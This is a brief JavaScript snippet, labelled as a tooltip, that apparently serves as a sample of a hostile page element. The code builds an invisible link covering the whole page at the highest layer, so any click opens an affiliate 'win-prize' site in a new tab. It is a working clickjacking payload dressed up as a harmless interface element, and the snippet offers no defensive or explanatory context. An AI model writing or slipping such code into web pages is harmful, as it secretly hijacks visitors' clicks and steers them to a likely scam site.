// surroundings: tooltip
const a = document.createElement('a');
a.href = 'https://aff.win-prize.top/?id=22';
a.target = '_blank';
a.style.cssText = 'position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;opacity:0;'; //@act
document.body.appendChild(a);
